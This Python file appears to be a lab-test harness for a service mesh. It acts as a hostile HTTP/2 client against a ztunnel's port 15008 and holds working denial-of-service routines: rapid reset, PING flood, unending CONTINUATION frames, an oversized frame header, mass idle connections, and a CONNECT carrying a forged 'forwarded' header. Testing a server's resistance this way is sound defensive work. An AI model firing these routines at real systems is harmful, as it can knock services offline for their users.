"""A misbehaving HBONE client for lab tests: run in a node's network namespace with a
certificate the mesh CA signed (what a compromised node holds), it speaks raw HTTP/2 to a
ztunnel's 15008 with h2, as an attacker would, not through weft's own client.

    hbone_attacker.py CERT KEY ROOTS SNI HOST connect TARGET [FORWARDED]
        prints the CONNECT's status (0: stream or connection refused)
    hbone_attacker.py CERT KEY ROOTS SNI HOST rapid-reset TARGET COUNT
        opens COUNT streams, each reset at once (HEADERS + RST_STREAM), then prints how the
        connection ended: "open", "goaway <code>" or "closed"
    hbone_attacker.py CERT KEY ROOTS SNI HOST ping-flood - COUNT
        COUNT PINGs without ever reading the replies; then how the connection ended
    hbone_attacker.py CERT KEY ROOTS SNI HOST continuation TARGET MIB
        one header block that never ends: HEADERS then CONTINUATION frames, MIB MiB in all
    hbone_attacker.py CERT KEY ROOTS SNI HOST oversized-frame - SECONDS
        a frame header announcing 16 MiB, then nothing: how soon the connection ended
    hbone_attacker.py - - - - HOST silent - COUNT
        COUNT TCP connections to 15008 that never start TLS, held 15 s: how many the
        server closed meanwhile
"""

from __future__ import annotations

import resource
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events


def session(
    cert: str, key: str, roots: str, sni: str, host: str
) -> tuple[ssl.SSLSocket, h2.connection.H2Connection]:
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.load_verify_locations(roots)
    ctx.load_cert_chain(cert, key)
    ctx.set_alpn_protocols(["h2"])
    sock = ctx.wrap_socket(socket.create_connection((host, 15008), timeout=10), server_hostname=sni)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def connect(
    sock: ssl.SSLSocket, conn: h2.connection.H2Connection, target: str, forwarded: str
) -> int:
    headers = [(":method", "CONNECT"), (":authority", target)]
    if forwarded:
        headers.append(("forwarded", forwarded))
    stream_id = conn.get_next_available_stream_id()
    conn.send_headers(stream_id, headers)
    sock.sendall(conn.data_to_send())
    while True:
        data = sock.recv(65536)
        if not data:
            return 0
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.ResponseReceived) and event.stream_id == stream_id:
                return int(dict(event.headers)[b":status"])
            if isinstance(event, h2.events.StreamReset | h2.events.ConnectionTerminated):
                return 0
        sock.sendall(conn.data_to_send())


def rapid_reset(
    sock: ssl.SSLSocket, conn: h2.connection.H2Connection, target: str, count: int
) -> str:
    sock.settimeout(2)
    for i in range(count):
        stream_id = conn.get_next_available_stream_id()
        conn.send_headers(stream_id, [(":method", "CONNECT"), (":authority", target)])
        conn.reset_stream(stream_id)
        try:
            sock.sendall(conn.data_to_send())
        except OSError:
            return "closed"
        if i % 100 == 99:  # read what came back, as a real client's loop would
            sock.setblocking(False)
            try:
                while data := sock.recv(1 << 20):
                    for event in conn.receive_data(data):
                        if isinstance(event, h2.events.ConnectionTerminated):
                            return f"goaway {event.error_code}"
            except (BlockingIOError, ssl.SSLWantReadError):
                pass
            except OSError:
                return "closed"
            except Exception:  # h2 refusing what a closing server sends
                return "closed"
            finally:
                sock.settimeout(2)
    return ended(sock, conn, 3)  # the server's GOAWAY may still be on its way


def ended(sock: ssl.SSLSocket, conn: h2.connection.H2Connection, wait: float) -> str:
    """How the connection ended, reading for up to `wait` seconds."""
    sock.settimeout(wait)
    deadline = time.monotonic() + wait
    try:
        while time.monotonic() < deadline:
            data = sock.recv(1 << 20)
            if not data:
                return "closed"
            try:
                for event in conn.receive_data(data):
                    if isinstance(event, h2.events.ConnectionTerminated):
                        return f"goaway {event.error_code}"
            except Exception:  # h2 refusing what the server sent as it cut us off
                return "closed"
    except TimeoutError:
        return "open"
    except OSError:
        return "closed"
    return "open"


def frame(ftype: int, flags: int, stream_id: int, payload: bytes) -> bytes:
    n = len(payload)
    return struct.pack(">HBBBL", n >> 8, n & 0xFF, ftype, flags, stream_id) + payload


def ping_flood(sock: ssl.SSLSocket, conn: h2.connection.H2Connection, count: int) -> str:
    sock.settimeout(5)
    ping = frame(0x6, 0, 0, b"12345678")
    try:
        for _ in range(count // 1000):
            sock.sendall(ping * 1000)  # never reading: the replies pile up at the server
    except OSError:
        return "closed"
    return ended(sock, conn, 10)


def continuation(
    sock: ssl.SSLSocket, conn: h2.connection.H2Connection, target: str, mib: int
) -> str:
    block = conn.encoder.encode([(":method", "CONNECT"), (":authority", target)])
    chunk = b"\x00" * (1 << 20)  # the frame size the server advertised
    try:
        ended(sock, conn, 0.5)  # take the server's SETTINGS and acknowledge them
        sock.sendall(conn.data_to_send())
        sock.sendall(frame(0x1, 0, 1, block))  # HEADERS without END_HEADERS
        for _ in range(mib):
            sock.sendall(frame(0x9, 0, 1, chunk))  # CONTINUATION, never the last one
    except OSError:
        return "closed"
    return ended(sock, conn, 15)


def oversized_frame(sock: ssl.SSLSocket, conn: h2.connection.H2Connection, wait: float) -> str:
    n = 16 * 1024 * 1024 - 1
    started = time.monotonic()
    sock.sendall(struct.pack(">HBBBL", n >> 8, n & 0xFF, 0x0, 0, 1))
    how = ended(sock, conn, wait)
    return f"{how} {time.monotonic() - started:.1f}"


def silent(host: str, count: int) -> str:
    resource.setrlimit(resource.RLIMIT_NOFILE, (count + 100, count + 100))
    socks = []
    for _ in range(count):
        try:
            socks.append(socket.create_connection((host, 15008), timeout=5))
        except OSError:
            break
    opened = len(socks)
    time.sleep(15)
    closed = 0
    for s in socks:
        s.setblocking(False)
        try:
            if s.recv(1) == b"":
                closed += 1
        except BlockingIOError:
            pass
        except OSError:
            closed += 1
        s.close()
    return f"opened {opened} closed {closed}"


def main() -> None:
    cert, key, roots, sni, host, mode, target, *rest = sys.argv[1:]
    if mode == "silent":
        print(silent(host, int(rest[0])))
        return
    sock, conn = session(cert, key, roots, sni, host)
    if mode == "connect":
        print(connect(sock, conn, target, rest[0] if rest else ""))
    elif mode == "rapid-reset":
        print(rapid_reset(sock, conn, target, int(rest[0])))
    elif mode == "ping-flood":
        print(ping_flood(sock, conn, int(rest[0])))
    elif mode == "continuation":
        print(continuation(sock, conn, target, int(rest[0])))
    elif mode == "oversized-frame":
        print(oversized_frame(sock, conn, float(rest[0])))
    else:
        raise SystemExit(f"unknown mode {mode!r}")
    sock.close()


if __name__ == "__main__":
    main()
